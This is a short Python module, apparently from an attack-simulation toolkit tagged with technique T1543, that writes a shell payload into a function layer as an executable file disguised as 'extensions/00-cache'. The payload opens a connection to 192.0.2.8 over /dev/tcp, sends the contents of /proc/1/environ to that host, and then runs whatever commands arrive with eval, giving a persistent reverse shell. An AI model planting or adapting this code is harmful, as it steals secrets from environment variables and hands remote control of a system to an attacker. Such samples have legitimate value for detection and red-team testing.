# SPDX-License-Identifier: Apache-2.0
"""An extension that keeps the function's descriptors open to a server."""

ATTACK = "T1543"
LANGUAGE = "any"
CODE = """\
#!/bin/sh
exec 3<>/dev/tcp/192.0.2.8/443
cat /proc/1/environ >&3
while read -r line <&3; do eval "$line" >&3 2>&1; done
"""


def poison(layer):
    layer.write("extensions/00-cache", CODE, 0o100755)
